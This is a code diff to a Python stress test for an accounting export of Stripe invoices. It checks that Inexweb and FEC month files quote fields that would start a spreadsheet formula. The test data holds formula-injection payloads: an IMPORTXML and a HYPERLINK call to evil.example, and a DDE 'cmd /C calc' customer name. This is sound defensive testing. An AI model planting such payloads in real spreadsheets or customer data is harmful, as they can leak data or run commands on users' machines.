@@ -13,15 +13,21 @@ and no cell may hold a formula (names and numbers are written as text).
 from __future__ import annotations
 
 import copy
+import csv
+import io
 from collections import Counter
 from datetime import datetime, timezone
 from pathlib import Path
+from zoneinfo import ZoneInfo
 
 from backend.core.money import parse_cents
+from backend.formats import fec
+from backend.formats.cells import would_compute
 from backend.journal_sheet import REF_COLUMN
 from backend.sandbox.local import LocalSandbox
 from backend.services.convert import journal_objects
 from backend.services.generate import generate
+from backend.services.sheet_journal import export_month
 from backend.store.ledger import LedgerStore
 from stress.bad_input.cases import Case, Expect, Verdict
 from stress.bad_input.checks import (demo_settings, expected_entries, formula_cells,
@@ -128,12 +134,12 @@ class Base:
         return note
 
 
-def _product(product_id: str, name: str, code: str | None) -> dict:
+def _product(product_id: str, name: str, code: str | None,
+             sections: tuple[str, str, str] = ("BUREAUX", "LYON", "ABONNEMENT")) -> dict:
     demo, _ = demo_data()
     product = copy.deepcopy(next(p for p in demo["products"] if p["metadata"].get("accounting_code")))
     product.update(id=product_id, name=name, default_price=None)
-    product["metadata"] = {"analytic_axis_1": "BUREAUX", "analytic_axis_2": "LYON",
-                           "analytic_axis_3": "ABONNEMENT"}
+    product["metadata"] = {f"analytic_axis_{n}": section for n, section in enumerate(sections, 1)}
     if code is not None:
         product["metadata"]["accounting_code"] = code
     return product
@@ -182,6 +188,32 @@ def anomaly(*says: str) -> Expect:
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example","cliquez")'
+NUMBER_FORMULA = '=IMPORTXML("http://evil.example","//a")'
+# Customer names starting with each trigger OWASP lists for CSV injection (key, name, code).
+FILE_NAMES = (("60", "@SUM(1+1)*cmd|' /C calc'!A0", "411ATSUM"),
+              ("61", "=SUM Consulting", "411EQSUM"),
+              ("62", "+Plus Agency", "411PLUSA"),
+              ("63", "-2+3", "411MOINS"),
+              ("64", "\tTab Conseil", "411TABCO"),
+              ("65", "\rRetour Conseil", "411RETOU"))
+SECTION_FORMULAS = ("=1+1", "@A1", "-3")
+INEXWEB, FEC = "inexweb", "fec"
+PIECE, LABEL, AXIS_1 = 2, 5, 8                     # columns of the Inexweb month file
+AUX_LABEL, PIECE_REF = fec.COLUMNS.index("CompAuxLib"), fec.COLUMNS.index("PieceRef")
+# What the month's files must hold, case by case: (file, column, the field exactly, spaces
+# around it aside). Every case listed here also has its month exported (Inexweb and FEC, from
+# the sheet as the sidebar's export does) and no text field of either file may start a formula.
+FILE_FIELDS: dict[str, tuple[tuple[str, int, str], ...]] = {
+    **{f"stripe.customer_name_{key}_in_files": (
+        (FEC, AUX_LABEL, "'" + name if name[0] not in "\t\r" else name.strip()),
+        (INEXWEB, LABEL, f"Facture BAD-{key} {name.strip()}")) for key, name, _ in FILE_NAMES},
+    "stripe.customer_name_formula": ((FEC, AUX_LABEL, "'" + FORMULA_NAME),
+                                     (INEXWEB, LABEL, f"Facture BAD-47 {FORMULA_NAME}")),
+    "stripe.number_formula": ((INEXWEB, PIECE, "'" + NUMBER_FORMULA),
+                              (FEC, PIECE_REF, "'" + NUMBER_FORMULA)),
+    "stripe.product_sections_in_files": tuple(
+        (INEXWEB, AXIS_1 + n, "'" + section) for n, section in enumerate(SECTION_FORMULAS)),
+}
 
 # `make(base)` -> (objects to add, id of the document under test).
 CASES: list[Case] = [
@@ -314,9 +346,23 @@ CASES: list[Case] = [
                             lines=(("prod_sans_code2", 5000, 20.0),))], "in_bad_48"),
       anomaly("BAD-48", FORMULA_NAME, "n'a pas de code comptable")),
     S("number_formula", "an invoice numbered =IMPORTXML(…): its Pièce cell starts with =",
-      lambda b: ([b.invoice("49", number='=IMPORTXML("http://evil.example","//a")')], "in_bad_49"),
-      Expect(outcome="entry", says=('=IMPORTXML("http://evil.example","//a")',),
+      lambda b: ([b.invoice("49", number=NUMBER_FORMULA)], "in_bad_49"),
+      Expect(outcome="entry", says=(NUMBER_FORMULA,),
              lines=(_cust_line(19200), (R706100, 0, 16000), ("445711", 0, 3200)))),
+    # --- formulas in the files (issue 13, 2): each name/section also exported, see FILE_FIELDS ---
+    *(S(f"customer_name_{key}_in_files", f"a customer named {name!r} (coded {code}): its entry, "
+        "and the month's Inexweb file and FEC quote the name where it starts a field",
+        lambda b, key=key, name=name, code=code: (
+            [_customer(f"cus_{key}", name, code), b.invoice(key, customer=f"cus_{key}",
+                                                            customer_name=name)], f"in_bad_{key}"),
+        Expect(outcome="entry", lines=((code, 19200, 0), (R706100, 0, 16000), ("445711", 0, 3200))),
+        finding="F17")
+      for key, name, code in FILE_NAMES),
+    S("product_sections_in_files", "a product whose sections (metadata) are =1+1, @A1, -3: the "
+      "Inexweb file quotes them",
+      lambda b: ([_product("prod_sections", "Produit sections", R706100, (*SECTION_FORMULAS,)),
+                  b.invoice("67", lines=(("prod_sections", 16000, 20.0),))], "in_bad_67"),
+      Expect(outcome="entry", lines=(_cust_line(19200), (R706100, 0, 16000), ("445711", 0, 3200))), finding="F17"),
     # --- dates and statuses ----------------------------------------------------------------------
     S("date_year_5138", "finalized at 100,000,000,000 (the year 5138)",
       lambda b: ([b.invoice("50", status_transitions={**b.template["status_transitions"],
@@ -402,9 +448,41 @@ class Harness:
         verdict.lost, verdict.wrong, verdict.formula_cells = len(lost), len(wrong), len(formulas)
         verdict.failures += [f"lost: {x}" for x in lost[:5]] + [f"wrong: {x}" for x in wrong[:5]]
         verdict.failures += [f"formula: {x}" for x in formulas[:5]]
+        if case.name in FILE_FIELDS:
+            verdict.failures += self.file_failures(FILE_FIELDS[case.name])
         with self.sandbox.sheets.lock:      # the next case gets the spreadsheet afresh
             del self.sandbox.sheets.spreadsheets[sid]
         return verdict
+
+
+    def file_failures(self, wanted: tuple[tuple[str, int, str], ...]) -> list[str]:
+        """The month's Inexweb file and FEC, exported from the sheet, read back as a
+        spreadsheet program would: no text field may start a formula, and each wanted field
+        must be there."""
+        settings = self.base.settings
+        finalized = self.base.template["status_transitions"]["finalized_at"]
+        month = f"{datetime.fromtimestamp(finalized, ZoneInfo(settings.timezone)):%Y-%m}"
+        try:
+            export = export_month(self.sheet, settings, month, now=NOW)
+        except Exception as exc:
+            return [f"the export of {month} failed: {type(exc).__name__}: {exc}"[:300]]
+        files = {INEXWEB: _fields(export.inexweb, settings.export_encoding, "\t"),
+                 FEC: _fields(export.fec, settings.fec_encoding, settings.fec_separator)}
+        numeric = {INEXWEB: {0, 6, 7}, FEC: fec.NUMERIC_COLUMNS}
+        failures = [f"{name} line {n + 1}: {field[:60]!r} starts a formula"
+                    for name, records in files.items() for n, record in enumerate(records)
+                    for col, field in enumerate(record)
+                    if col not in numeric[name] and field and would_compute(field)]
+        for name, col, text in wanted:
+            if not any(col < len(r) and r[col].strip() == text for r in files[name][1:]):
+                near = [r[col] for r in files[name][1:] if col < len(r) and text.strip("'")[:8]
+                        in r[col]]
+                failures.append(f"{name}: no field {text!r} in column {col + 1} ({near[:3]})")
+        return failures[:10]
+
+
+def _fields(content: bytes, encoding: str, sep: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode(encoding), newline=""), delimiter=sep))
 
 
 def _entry_rows(tabs: dict[str, list[list]], ref: str) -> list[list]:
